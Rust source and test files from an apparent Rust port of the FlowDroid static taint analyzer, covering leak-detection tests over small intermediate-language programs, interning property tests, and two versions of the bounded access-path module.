    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
    );
    assert_eq!(r.leak_count(), 1, "{r:#?}");
}

#[test]
fn recursion_through_heap_terminates() {
    // Recursive builder creating a chain deeper than the access-path
    // bound: truncation guarantees termination and soundly reports.
    let r = analyze(
        r#"
class Node { field val: java.lang.String  field next: Node }
class S {
  static method build(d: int, s: java.lang.String) -> Node {
    let n: Node
    let rest: Node
    n = new Node
    n.val = s
    if d <= 0 goto leaf
    rest = staticinvoke <S: Node build(int,java.lang.String)>(0, s)
    n.next = rest
  label leaf:
    return n
  }
  static method main() -> void {
    let s: java.lang.String
    let n: Node
    let m: Node
    let t: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    n = staticinvoke <S: Node build(int,java.lang.String)>(9, s)
    m = n.next
    t = m.val
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
    );
    assert_eq!(r.leak_count(), 1, "{r:#?}");
}

#[test]
fn mutual_recursion_with_taint() {
    let r = analyze(
        r#"
class S {
  static method even(x: java.lang.String, d: int) -> java.lang.String {
    let r: java.lang.String
    if d <= 0 goto base
    r = staticinvoke <S: java.lang.String odd(java.lang.String,int)>(x, d)
    return r
  label base:
    return x
  }
  static method odd(x: java.lang.String, d: int) -> java.lang.String {
    let r: java.lang.String
    let d2: int
    d2 = d - 1
    r = staticinvoke <S: java.lang.String even(java.lang.String,int)>(x, d2)
    return r
  }
  static method main() -> void {
    let s: java.lang.String
    let t: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    t = staticinvoke <S: java.lang.String even(java.lang.String,int)>(s, 7)
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
    );
    assert_eq!(r.leak_count(), 1, "{r:#?}");
}

#[test]
fn clean_mutual_recursion_stays_clean() {
    let r = analyze(
        r#"
class S {
  static method even(x: java.lang.String, d: int) -> java.lang.String {
    let r: java.lang.String
    if d <= 0 goto base
    r = staticinvoke <S: java.lang.String odd(java.lang.String,int)>(x, d)
    return r
  label base:
    return x
  }
  static method odd(x: java.lang.String, d: int) -> java.lang.String {
    let r: java.lang.String
    r = staticinvoke <S: java.lang.String even(java.lang.String,int)>(x, d)
    return r
  }
  static method main() -> void {
    let s: java.lang.String
    let t: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    t = staticinvoke <S: java.lang.String even(java.lang.String,int)>("clean", 7)
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
    );
    assert!(r.is_clean(), "the tainted value is never passed in: {r:#?}");
}

#[test]
fn wide_branch_fan_in_deduplicates() {
    // 16 branches all tainting the same local: exactly one leak, and
    // propagation counts stay proportional to the program, not the
    // path count.
    let mut arms = String::new();
    let mut labels = String::new();
    for i in 0..16 {
        arms.push_str(&format!("    if opaque goto a{i}\n"));
        labels.push_str(&format!("  label a{i}:\n    t = s + \"{i}\"\n    goto merge\n"));
    }
    let code = format!(
        r#"
class S {{
  static method main() -> void {{
    let s: java.lang.String
    let t: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    t = "none"
{arms}    goto merge
{labels}  label merge:
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }}
}}
"#
    );
    let r = analyze(&code);
    assert_eq!(r.leak_count(), 1, "{r:#?}");
    assert!(
        r.forward_propagations < 5_000,
        "IFDS joins at merge points; got {} propagations",
        r.forward_propagations
    );
}

#[test]
fn swap_chain_aliasing() {
    // Ping-pong assignments between two locals pointing at the same
    // object; the alias closure must not diverge.
    let r = analyze(
        r#"
class Box { field v: java.lang.String }
class S {
  static method main() -> void {
    let a: Box
    let b: Box
    let c: Box
    let s: java.lang.String
    let t: java.lang.String
    let i: int
    a = new Box
    b = a
    i = 0
  label top:
    if i >= 6 goto done
    c = a
    a = b
    b = c
    i = i + 1
    goto top
  label done:
    s = staticinvoke <Env: java.lang.String source()>()
    a.v = s
    t = b.v
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
    );
    assert_eq!(r.leak_count(), 1, "{r:#?}");
}

#[test]
fn propagation_budget_aborts_gracefully() {
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, ENV).unwrap();
    parse_jasm(
        &mut p,
        &rt,
        r#"
class S {
  static method main() -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    s = s + "a"
    s = s + "b"
    s = s + "c"
    staticinvoke <Env: void sink(java.lang.String)>(s)
    return
  }
}
"#,
    )
    .unwrap();
    let sources = SourceSinkManager::parse(DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    // A propagation budget that is far too small on purpose.
    let config = InfoflowConfig { max_propagations: 3, ..InfoflowConfig::default() };
    let main = p.find_method("S", "main").unwrap();
    let r = Infoflow::new(&sources, &wrapper, &config).run(&p, &[main]);
    assert!(r.aborted, "budget exhaustion must be reported");
}
