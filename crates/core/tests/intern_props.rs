//! Property tests for fact/access-path interning: interning is a
//! bijection between the values seen and their ids (round-trips
//! exactly, identifies exactly equal values), and id assignment is a
//! pure function of encounter order (the determinism the corpus
//! driver's byte-identical reports rely on).

use flowdroid_core::access_path::{AccessPath, ApBase};
use flowdroid_core::intern::{intern_fields, FactDomain, Interner, InternedDomain};
use flowdroid_core::taint::{Fact, Taint};
use flowdroid_ir::{FieldId, Local, MethodId, StmtRef};
use proptest::prelude::*;

fn field_strategy() -> impl Strategy<Value = FieldId> {
    (0usize..8).prop_map(FieldId::from_index)
}

fn ap_strategy() -> impl Strategy<Value = AccessPath> {
    (
        0u32..4,
        proptest::collection::vec(field_strategy(), 0..5),
    )
        .prop_map(|(l, fields)| AccessPath::new(ApBase::Local(Local(l)), fields, 5))
}

fn fact_strategy() -> impl Strategy<Value = Fact> {
    (ap_strategy(), 0u32..3, 0usize..4, 0usize..3).prop_map(|(ap, kind, m, idx)| match kind {
        0 => Fact::Zero,
        1 => Fact::T(Taint::active(ap)),
        _ => Fact::T(Taint::inactive(
            ap,
            StmtRef::new(MethodId::from_index(m), idx),
        )),
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// `resolve(intern(ap)) == ap`.
    #[test]
    fn ap_interning_round_trips(ap in ap_strategy()) {
        let mut i = Interner::new();
        let id = i.intern_ap(&ap);
        prop_assert_eq!(i.resolve_ap(id), &ap);
    }

    /// `intern(a) == intern(b)  ⇔  a == b` for access paths.
    #[test]
    fn ap_ids_identify_equal_paths(a in ap_strategy(), b in ap_strategy()) {
        let mut i = Interner::new();
        let ia = i.intern_ap(&a);
        let ib = i.intern_ap(&b);
        prop_assert_eq!(ia == ib, a == b);
    }

    /// `resolve(intern(f)) == f` for whole facts (through the domain
    /// the solver actually uses).
    #[test]
    fn fact_interning_round_trips(f in fact_strategy()) {
        let mut dom = InternedDomain::new(5);
        let id = dom.intern(&f);
        prop_assert_eq!(dom.resolve(&id), f.clone());
        prop_assert_eq!(dom.is_zero(&id), f.is_zero());
    }

    /// `intern(a) == intern(b)  ⇔  a == b` for facts.
    #[test]
    fn fact_ids_identify_equal_facts(a in fact_strategy(), b in fact_strategy()) {
        let mut dom = InternedDomain::new(5);
        let ia = dom.intern(&a);
        let ib = dom.intern(&b);
        prop_assert_eq!(ia == ib, a == b);
    }

    /// Interning is idempotent and never grows the arena on re-intern.
    #[test]
    fn reinterning_is_stable(facts in proptest::collection::vec(fact_strategy(), 1..16)) {
        let mut dom = InternedDomain::new(5);
        let first: Vec<_> = facts.iter().map(|f| dom.intern(f)).collect();
        let count = dom.stats().unwrap();
        let second: Vec<_> = facts.iter().map(|f| dom.intern(f)).collect();
        prop_assert_eq!(&first, &second);
        prop_assert_eq!(dom.stats().unwrap(), count);
    }

    /// Id assignment is a pure function of encounter order: two
    /// interners fed the same sequence assign identical ids.
    #[test]
    fn encounter_order_determines_ids(facts in proptest::collection::vec(fact_strategy(), 1..16)) {
        let mut a = InternedDomain::new(5);
        let mut b = InternedDomain::new(5);
        let ids_a: Vec<_> = facts.iter().map(|f| a.intern(f)).collect();
        let ids_b: Vec<_> = facts.iter().map(|f| b.intern(f)).collect();
        prop_assert_eq!(ids_a, ids_b);
        prop_assert_eq!(a.stats(), b.stats());
    }

    /// The field-sequence arena round-trips content exactly.
    #[test]
    fn field_slice_interning_round_trips(
        fields in proptest::collection::vec(field_strategy(), 0..6)
    ) {
        let interned = intern_fields(&fields);
        prop_assert_eq!(interned, &fields[..]);
    }

    /// Equal field sequences intern to the *same* arena slice (pointer
    /// identity), and distinct sequences never do — the property that
    /// makes access-path equality a pointer-plus-length compare.
    #[test]
    fn field_slice_interning_canonicalizes(
        a in proptest::collection::vec(field_strategy(), 0..6),
        b in proptest::collection::vec(field_strategy(), 0..6),
    ) {
        let ia = intern_fields(&a);
        let ib = intern_fields(&b);
        let same = ia.as_ptr() == ib.as_ptr() && ia.len() == ib.len();
        prop_assert_eq!(same, a == b);
    }

    /// Access paths built independently from equal components share an
    /// interned fields slice, so `read_remainder` can hand out borrowed
    /// subslices without allocating.
    #[test]
    fn equal_access_paths_share_arena_storage(
        l in 0u32..4,
        fields in proptest::collection::vec(field_strategy(), 0..5),
    ) {
        let a = AccessPath::new(ApBase::Local(Local(l)), fields.clone(), 5);
        let b = AccessPath::new(ApBase::Local(Local(l)), fields, 5);
        prop_assert_eq!(a, b);
        prop_assert!(a.fields().as_ptr() == b.fields().as_ptr());
    }
}
