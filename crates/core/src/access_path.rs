//! Bounded access paths (paper §4.1).
//!
//! An access path `x.f.g` denotes the object reachable from local `x`
//! through fields `f` then `g`. Paths are bounded by a configurable
//! maximal length (default 5); appending beyond the bound *truncates*,
//! which over-approximates soundly because an access path implicitly
//! covers every extension of itself (`x.f` subsumes `x.f.g`, `x.f.g.h`,
//! …).
//!
//! Field sequences are **arena-interned** (see
//! [`crate::intern::intern_fields`]): every distinct `[FieldId]`
//! sequence is stored exactly once and an `AccessPath` holds a stable
//! `&'static` slice into that arena. This makes `AccessPath` (and the
//! [`crate::taint::Taint`]/[`crate::taint::Fact`] types built on it)
//! `Copy`: the solver's inner loops — [`AccessPath::read_remainder`],
//! [`AccessPath::append`], [`AccessPath::rebase`], fact resolution —
//! stop allocating per call, and copies of facts across worker threads
//! are single-word-per-field-free. Equality, hashing and ordering
//! compare slice *contents*, so behavior is independent of arena
//! addresses and therefore deterministic across runs and thread
//! counts.

use crate::intern::intern_fields;
use flowdroid_ir::{FieldId, Local, Place, Program};

/// The root of an access path.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub enum ApBase {
    /// A local variable (or parameter / `this`).
    Local(Local),
    /// A static field.
    Static(FieldId),
}

/// Stack buffer size for building short field sequences without heap
/// allocation (the default bound is 5; ablations go a little higher).
const STACK_FIELDS: usize = 16;

/// A bounded access path.
///
/// `Copy`: the field sequence is an interned `&'static` slice, not an
/// owned vector. Derived `PartialEq`/`Hash`/`Ord` compare the slice by
/// content (length + elements), never by address.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub struct AccessPath {
    base: ApBase,
    fields: &'static [FieldId],
    /// Set when fields were dropped due to the length bound; the path
    /// then stands for *everything* reachable from its prefix.
    truncated: bool,
}

impl AccessPath {
    /// A path rooted at a local with no fields.
    pub fn local(l: Local) -> AccessPath {
        AccessPath { base: ApBase::Local(l), fields: &[], truncated: false }
    }

    /// A path rooted at a static field.
    pub fn static_field(f: FieldId) -> AccessPath {
        AccessPath { base: ApBase::Static(f), fields: &[], truncated: false }
    }

    /// A path with explicit parts, truncating to `max_len` fields.
    pub fn new(base: ApBase, fields: Vec<FieldId>, max_len: usize) -> AccessPath {
        Self::make(base, &fields, &[], false, max_len)
    }

    /// Reconstructs a path from serialized parts, preserving a
    /// `truncated` flag even when the fields fit the bound (the
    /// summary store round-trips paths that were truncated under the
    /// original bound).
    pub(crate) fn from_raw_parts(
        base: ApBase,
        fields: &[FieldId],
        truncated: bool,
    ) -> AccessPath {
        AccessPath { base, fields: intern_fields(fields), truncated }
    }

    /// The access path a [`Place`] *writes to / reads from*:
    /// array elements collapse to the whole array object (paper §4.1:
    /// index-insensitive array handling).
    pub fn of_place(place: &Place) -> AccessPath {
        match place {
            Place::Local(l) => AccessPath::local(*l),
            Place::InstanceField(b, f) => AccessPath {
                base: ApBase::Local(*b),
                fields: intern_fields(&[*f]),
                truncated: false,
            },
            Place::StaticField(f) => AccessPath::static_field(*f),
            Place::ArrayElem(b, _) => AccessPath::local(*b),
        }
    }

    /// Builds `base.(a ++ b)` truncated to `max_len`, interning the
    /// resulting field sequence. Short sequences (the overwhelmingly
    /// common case) are assembled on the stack; only a first encounter
    /// of a distinct sequence allocates, inside the arena.
    fn make(
        base: ApBase,
        a: &[FieldId],
        b: &[FieldId],
        already_truncated: bool,
        max_len: usize,
    ) -> AccessPath {
        let total = a.len() + b.len();
        let take = total.min(max_len);
        let truncated = already_truncated || total > max_len;
        let fields = if take == a.len() && b.is_empty() {
            // Fast path: `a` is already an interned slice when called
            // from append/rebase on an existing path.
            intern_fields(a)
        } else if take <= STACK_FIELDS {
            let mut buf = [FieldId::from_index(0); STACK_FIELDS];
            for (slot, f) in buf.iter_mut().zip(a.iter().chain(b).take(take)) {
                *slot = *f;
            }
            intern_fields(&buf[..take])
        } else {
            let v: Vec<FieldId> = a.iter().chain(b).take(take).copied().collect();
            intern_fields(&v)
        };
        AccessPath { base, fields, truncated }
    }

    /// The root.
    pub fn base(&self) -> ApBase {
        self.base
    }

    /// The field chain (a stable slice into the field-sequence arena).
    pub fn fields(&self) -> &'static [FieldId] {
        self.fields
    }

    /// Whether fields were dropped due to the length bound.
    pub fn is_truncated(&self) -> bool {
        self.truncated
    }

    /// Number of fields.
    pub fn len(&self) -> usize {
        self.fields.len()
    }

    /// Whether the path is just its root.
    pub fn is_empty(&self) -> bool {
        self.fields.is_empty()
    }

    /// Returns the local root, if the path is rooted at a local.
    pub fn base_local(&self) -> Option<Local> {
        match self.base {
            ApBase::Local(l) => Some(l),
            ApBase::Static(_) => None,
        }
    }

    /// The canonical widened form of the path under bound `max_len`:
    /// a field chain longer than the bound is cut to its first
    /// `max_len` fields and marked truncated, so it stands for every
    /// extension of that prefix. Paths within the bound are returned
    /// unchanged. This is how the interner collapses over-long paths
    /// (e.g. replayed from a summary store recorded under a larger
    /// bound) into one widened id, keeping the dense fact universe
    /// bounded.
    pub fn widened(&self, max_len: usize) -> AccessPath {
        if self.fields.len() <= max_len {
            return *self;
        }
        AccessPath {
            base: self.base,
            fields: intern_fields(&self.fields[..max_len]),
            truncated: true,
        }
    }

    /// Appends `field`, truncating at `max_len`. A truncated path
    /// absorbs appends (it already covers all suffixes).
    pub fn append(&self, field: FieldId, max_len: usize) -> AccessPath {
        if self.truncated {
            return *self;
        }
        Self::make(self.base, self.fields, &[field], false, max_len)
    }

    /// The path `self.fields ++ suffix` (same base), truncated to
    /// `max_len`. A truncated path absorbs suffixes.
    pub fn with_suffix(&self, suffix: &[FieldId], max_len: usize) -> AccessPath {
        if self.truncated || suffix.is_empty() {
            return *self;
        }
        Self::make(self.base, self.fields, suffix, false, max_len)
    }

    /// Prepends `prefix_fields` after replacing the base: the path
    /// `base'.prefix ++ self.fields`, truncated to `max_len`.
    pub fn rebase(
        &self,
        new_base: ApBase,
        prefix_fields: &[FieldId],
        max_len: usize,
    ) -> AccessPath {
        Self::make(new_base, prefix_fields, self.fields, self.truncated, max_len)
    }

    /// If `self` *covers a read* of `prefix` (paper: a path denotes the
    /// whole object it reaches), returns the remainder of `self` beyond
    /// `prefix` — as a borrowed subslice of `self`'s interned field
    /// sequence, so the call never allocates:
    ///
    /// * `self = x`, `prefix = x.f` → `Some(&[])` (whole `x` tainted,
    ///   so the value read from `x.f` is tainted);
    /// * `self = x.f.g`, `prefix = x.f` → `Some(&[g])`;
    /// * `self = x.g`, `prefix = x.f` → `None`.
    pub fn read_remainder(&self, prefix: &AccessPath) -> Option<&'static [FieldId]> {
        if self.base != prefix.base {
            return None;
        }
        if self.fields.len() <= prefix.fields.len() {
            // self must be a prefix of `prefix` (whole-object coverage).
            if prefix.fields[..self.fields.len()] == self.fields[..] {
                Some(&[])
            } else {
                None
            }
        } else if self.fields[..prefix.fields.len()] == prefix.fields[..] {
            Some(&self.fields[prefix.fields.len()..])
        } else {
            None
        }
    }

    /// Returns `true` if `self` is rooted at (or below) `prefix` — i.e.
    /// writing to `prefix` *could* produce `self`, or `self` describes
    /// data inside the object at `prefix`.
    pub fn has_prefix(&self, prefix: &AccessPath) -> bool {
        self.base == prefix.base
            && self.fields.len() >= prefix.fields.len()
            && self.fields[..prefix.fields.len()] == prefix.fields[..]
    }

    /// Human-readable form, resolving names against `program` and the
    /// local names of `method`.
    pub fn display(&self, program: &Program, method: flowdroid_ir::MethodId) -> String {
        let mut s = match self.base {
            ApBase::Local(l) => {
                let body = program.method(method).body();
                match body.and_then(|b| b.locals().get(l.index())) {
                    Some(d) => d.name.clone(),
                    None => format!("%{}", l.index()),
                }
            }
            ApBase::Static(f) => {
                let fd = program.field(f);
                format!("{}.{}", program.class_name(fd.class()), program.str(fd.name()))
            }
        };
        for &f in self.fields {
            s.push('.');
            s.push_str(program.str(program.field(f).name()));
        }
        if self.truncated {
            s.push_str(".*");
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn f(i: usize) -> FieldId {
        FieldId::from_index(i)
    }

    #[test]
    fn append_respects_bound() {
        let ap = AccessPath::local(Local(0));
        let mut cur = ap;
        for i in 0..7 {
            cur = cur.append(f(i), 5);
        }
        assert_eq!(cur.len(), 5);
        assert!(cur.is_truncated());
        // Truncated paths absorb further appends.
        let more = cur.append(f(9), 5);
        assert_eq!(more, cur);
    }

    #[test]
    fn read_remainder_whole_object() {
        let x = AccessPath::local(Local(1));
        let xf = x.append(f(0), 5);
        // x tainted, reading x.f → tainted with no extra fields.
        assert_eq!(x.read_remainder(&xf), Some(&[][..]));
        // x.f tainted, reading x → remainder is [f]? No: reading the
        // local x yields the whole object, of which .f is tainted.
        assert_eq!(xf.read_remainder(&x), Some(&[f(0)][..]));
    }

    #[test]
    fn read_remainder_mismatch() {
        let x = AccessPath::local(Local(1));
        let xf = x.append(f(0), 5);
        let xg = x.append(f(1), 5);
        assert_eq!(xf.read_remainder(&xg), None);
        let y = AccessPath::local(Local(2));
        assert_eq!(xf.read_remainder(&y), None);
    }

    #[test]
    fn read_remainder_deep() {
        let x = AccessPath::local(Local(1));
        let xfg = x.append(f(0), 5).append(f(1), 5);
        let xf = x.append(f(0), 5);
        assert_eq!(xfg.read_remainder(&xf), Some(&[f(1)][..]));
    }

    #[test]
    fn read_remainder_borrows_interned_slice() {
        // The remainder is a subslice of the taint's interned fields —
        // no allocation, stable address.
        let x = AccessPath::local(Local(1));
        let xfg = x.append(f(0), 5).append(f(1), 5);
        let xf = x.append(f(0), 5);
        let rem = xfg.read_remainder(&xf).unwrap();
        let whole = xfg.fields();
        assert!(std::ptr::eq(rem.as_ptr(), whole[1..].as_ptr()));
    }

    #[test]
    fn rebase_builds_combined_path() {
        let pf = AccessPath::local(Local(3)).append(f(2), 5);
        let rebased = pf.rebase(ApBase::Local(Local(7)), &[f(9)], 5);
        assert_eq!(rebased.base_local(), Some(Local(7)));
        assert_eq!(rebased.fields(), &[f(9), f(2)]);
    }

    #[test]
    fn rebase_truncates() {
        let deep = AccessPath::new(ApBase::Local(Local(0)), vec![f(0), f(1), f(2)], 5);
        let rebased = deep.rebase(ApBase::Local(Local(1)), &[f(3), f(4), f(5)], 5);
        assert_eq!(rebased.len(), 5);
        assert!(rebased.is_truncated());
    }

    #[test]
    fn with_suffix_concats_and_truncates() {
        let xf = AccessPath::local(Local(0)).append(f(0), 5);
        let ext = xf.with_suffix(&[f(1), f(2)], 5);
        assert_eq!(ext.fields(), &[f(0), f(1), f(2)]);
        let bounded = xf.with_suffix(&[f(1), f(2), f(3), f(4), f(5)], 5);
        assert_eq!(bounded.len(), 5);
        assert!(bounded.is_truncated());
    }

    #[test]
    fn has_prefix() {
        let x = AccessPath::local(Local(1));
        let xf = x.append(f(0), 5);
        assert!(xf.has_prefix(&x));
        assert!(xf.has_prefix(&xf));
        assert!(!x.has_prefix(&xf));
    }

    #[test]
    fn array_place_collapses_to_base() {
        use flowdroid_ir::{Constant, Operand};
        let p = Place::ArrayElem(Local(2), Operand::Const(Constant::Int(3)));
        assert_eq!(AccessPath::of_place(&p), AccessPath::local(Local(2)));
    }

    #[test]
    fn statics_are_distinct_roots() {
        let a = AccessPath::static_field(f(0));
        let b = AccessPath::static_field(f(1));
        assert_ne!(a, b);
        assert_eq!(a.base_local(), None);
        assert_eq!(a.read_remainder(&a), Some(&[][..]));
    }

    #[test]
    fn equal_paths_share_one_arena_slice() {
        let a = AccessPath::new(ApBase::Local(Local(0)), vec![f(3), f(4)], 5);
        let b = AccessPath::local(Local(0)).append(f(3), 5).append(f(4), 5);
        assert_eq!(a, b);
        // Content-equal sequences intern to the same slice.
        assert!(std::ptr::eq(a.fields().as_ptr(), b.fields().as_ptr()));
    }
}
