//! Bounded access paths (paper §4.1).
//!
//! An access path `x.f.g` denotes the object reachable from local `x`
//! through fields `f` then `g`. Paths are bounded by a configurable
//! maximal length (default 5); appending beyond the bound *truncates*,
//! which over-approximates soundly because an access path implicitly
//! covers every extension of itself (`x.f` subsumes `x.f.g`, `x.f.g.h`,
//! …).

use flowdroid_ir::{FieldId, Local, Place, Program};

/// The root of an access path.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub enum ApBase {
    /// A local variable (or parameter / `this`).
    Local(Local),
    /// A static field.
    Static(FieldId),
}

/// A bounded access path.
#[derive(Clone, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub struct AccessPath {
    base: ApBase,
    fields: Vec<FieldId>,
    /// Set when fields were dropped due to the length bound; the path
    /// then stands for *everything* reachable from its prefix.
    truncated: bool,
}

impl AccessPath {
    /// A path rooted at a local with no fields.
    pub fn local(l: Local) -> AccessPath {
        AccessPath { base: ApBase::Local(l), fields: Vec::new(), truncated: false }
    }

    /// A path rooted at a static field.
    pub fn static_field(f: FieldId) -> AccessPath {
        AccessPath { base: ApBase::Static(f), fields: Vec::new(), truncated: false }
    }

    /// A path with explicit parts, truncating to `max_len` fields.
    pub fn new(base: ApBase, fields: Vec<FieldId>, max_len: usize) -> AccessPath {
        let mut ap = AccessPath { base, fields, truncated: false };
        ap.truncate(max_len);
        ap
    }

    /// The access path a [`Place`] *writes to / reads from*:
    /// array elements collapse to the whole array object (paper §4.1:
    /// index-insensitive array handling).
    pub fn of_place(place: &Place) -> AccessPath {
        match place {
            Place::Local(l) => AccessPath::local(*l),
            Place::InstanceField(b, f) => AccessPath {
                base: ApBase::Local(*b),
                fields: vec![*f],
                truncated: false,
            },
            Place::StaticField(f) => AccessPath::static_field(*f),
            Place::ArrayElem(b, _) => AccessPath::local(*b),
        }
    }

    /// The root.
    pub fn base(&self) -> ApBase {
        self.base
    }

    /// The field chain.
    pub fn fields(&self) -> &[FieldId] {
        &self.fields
    }

    /// Whether fields were dropped due to the length bound.
    pub fn is_truncated(&self) -> bool {
        self.truncated
    }

    /// Number of fields.
    pub fn len(&self) -> usize {
        self.fields.len()
    }

    /// Whether the path is just its root.
    pub fn is_empty(&self) -> bool {
        self.fields.is_empty()
    }

    /// Returns the local root, if the path is rooted at a local.
    pub fn base_local(&self) -> Option<Local> {
        match self.base {
            ApBase::Local(l) => Some(l),
            ApBase::Static(_) => None,
        }
    }

    fn truncate(&mut self, max_len: usize) {
        if self.fields.len() > max_len {
            self.fields.truncate(max_len);
            self.truncated = true;
        }
    }

    /// Appends `field`, truncating at `max_len`. A truncated path
    /// absorbs appends (it already covers all suffixes).
    pub fn append(&self, field: FieldId, max_len: usize) -> AccessPath {
        if self.truncated {
            return self.clone();
        }
        let mut fields = self.fields.clone();
        fields.push(field);
        let mut ap = AccessPath { base: self.base, fields, truncated: false };
        ap.truncate(max_len);
        ap
    }

    /// Prepends `prefix_fields` after replacing the base: the path
    /// `base'.prefix ++ self.fields`, truncated to `max_len`.
    pub fn rebase(
        &self,
        new_base: ApBase,
        prefix_fields: &[FieldId],
        max_len: usize,
    ) -> AccessPath {
        let mut fields = prefix_fields.to_vec();
        fields.extend(self.fields.iter().copied());
        let mut ap = AccessPath { base: new_base, fields, truncated: self.truncated };
        ap.truncate(max_len);
        ap
    }

    /// If `self` *covers a read* of `prefix` (paper: a path denotes the
    /// whole object it reaches), returns the remainder of `self` beyond
    /// `prefix`:
    ///
    /// * `self = x`, `prefix = x.f` → `Some([])` (whole `x` tainted, so
    ///   the value read from `x.f` is tainted);
    /// * `self = x.f.g`, `prefix = x.f` → `Some([g])`;
    /// * `self = x.g`, `prefix = x.f` → `None`.
    pub fn read_remainder(&self, prefix: &AccessPath) -> Option<Vec<FieldId>> {
        if self.base != prefix.base {
            return None;
        }
        if self.fields.len() <= prefix.fields.len() {
            // self must be a prefix of `prefix` (whole-object coverage).
            if prefix.fields[..self.fields.len()] == self.fields[..] {
                Some(Vec::new())
            } else {
                None
            }
        } else {
            if self.fields[..prefix.fields.len()] == prefix.fields[..] {
                Some(self.fields[prefix.fields.len()..].to_vec())
            } else {
                None
            }
        }
    }

    /// Returns `true` if `self` is rooted at (or below) `prefix` — i.e.
    /// writing to `prefix` *could* produce `self`, or `self` describes
    /// data inside the object at `prefix`.
    pub fn has_prefix(&self, prefix: &AccessPath) -> bool {
        self.base == prefix.base
            && self.fields.len() >= prefix.fields.len()
            && self.fields[..prefix.fields.len()] == prefix.fields[..]
    }

    /// Human-readable form, resolving names against `program` and the
    /// local names of `method`.
    pub fn display(&self, program: &Program, method: flowdroid_ir::MethodId) -> String {
        let mut s = match self.base {
            ApBase::Local(l) => {
                let body = program.method(method).body();
                match body.and_then(|b| b.locals().get(l.index())) {
                    Some(d) => d.name.clone(),
                    None => format!("%{}", l.index()),
                }
            }
            ApBase::Static(f) => {
                let fd = program.field(f);
                format!("{}.{}", program.class_name(fd.class()), program.str(fd.name()))
            }
        };
        for &f in &self.fields {
            s.push('.');
            s.push_str(program.str(program.field(f).name()));
        }
        if self.truncated {
            s.push_str(".*");
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn f(i: usize) -> FieldId {
        FieldId::from_index(i)
    }

    #[test]
    fn append_respects_bound() {
        let ap = AccessPath::local(Local(0));
        let mut cur = ap;
        for i in 0..7 {
            cur = cur.append(f(i), 5);
        }
        assert_eq!(cur.len(), 5);
        assert!(cur.is_truncated());
        // Truncated paths absorb further appends.
        let more = cur.append(f(9), 5);
        assert_eq!(more, cur);
    }

    #[test]
    fn read_remainder_whole_object() {
        let x = AccessPath::local(Local(1));
        let xf = x.append(f(0), 5);
        // x tainted, reading x.f → tainted with no extra fields.
        assert_eq!(x.read_remainder(&xf), Some(vec![]));
        // x.f tainted, reading x → remainder is [f]? No: reading the
        // local x yields the whole object, of which .f is tainted.
        assert_eq!(xf.read_remainder(&x), Some(vec![f(0)]));
    }

    #[test]
    fn read_remainder_mismatch() {
        let x = AccessPath::local(Local(1));
        let xf = x.append(f(0), 5);
        let xg = x.append(f(1), 5);
        assert_eq!(xf.read_remainder(&xg), None);
        let y = AccessPath::local(Local(2));
        assert_eq!(xf.read_remainder(&y), None);
    }

    #[test]
    fn read_remainder_deep() {
        let x = AccessPath::local(Local(1));
        let xfg = x.append(f(0), 5).append(f(1), 5);
        let xf = x.append(f(0), 5);
        assert_eq!(xfg.read_remainder(&xf), Some(vec![f(1)]));
    }

    #[test]
    fn rebase_builds_combined_path() {
        let pf = AccessPath::local(Local(3)).append(f(2), 5);
        let rebased = pf.rebase(ApBase::Local(Local(7)), &[f(9)], 5);
        assert_eq!(rebased.base_local(), Some(Local(7)));
        assert_eq!(rebased.fields(), &[f(9), f(2)]);
    }

    #[test]
    fn rebase_truncates() {
        let deep = AccessPath::new(ApBase::Local(Local(0)), vec![f(0), f(1), f(2)], 5);
        let rebased = deep.rebase(ApBase::Local(Local(1)), &[f(3), f(4), f(5)], 5);
        assert_eq!(rebased.len(), 5);
        assert!(rebased.is_truncated());
    }

    #[test]
    fn has_prefix() {
        let x = AccessPath::local(Local(1));
        let xf = x.append(f(0), 5);
        assert!(xf.has_prefix(&x));
        assert!(xf.has_prefix(&xf));
        assert!(!x.has_prefix(&xf));
    }

    #[test]
    fn array_place_collapses_to_base() {
        use flowdroid_ir::{Constant, Operand};
        let p = Place::ArrayElem(Local(2), Operand::Const(Constant::Int(3)));
        assert_eq!(AccessPath::of_place(&p), AccessPath::local(Local(2)));
    }

    #[test]
    fn statics_are_distinct_roots() {
        let a = AccessPath::static_field(f(0));
        let b = AccessPath::static_field(f(1));
        assert_ne!(a, b);
        assert_eq!(a.base_local(), None);
        assert_eq!(a.read_remainder(&a), Some(vec![]));
    }
}
