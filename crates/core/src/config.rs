//! Analysis configuration.

use flowdroid_android::CallbackAssociation;
use flowdroid_callgraph::CgAlgorithm;
use flowdroid_ifds::AbortHandle;
use std::fmt;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

/// A snapshot of solver progress, emitted through
/// [`InfoflowConfig::progress`] at the engines' abort-poll points
/// (every ~128 worklist steps) and whenever a leak is recorded.
/// Consumers (the daemon's `--stream` mode) turn these into partial
/// progress / leak frames while a job runs. Purely observational: the
/// sink never influences the analysis, so streamed and non-streamed
/// runs produce byte-identical reports.
#[derive(Clone, Debug, Default)]
pub struct ProgressEvent {
    /// Forward path-edge propagations so far.
    pub forward_propagations: u64,
    /// Backward (alias) path-edge propagations so far.
    pub backward_propagations: u64,
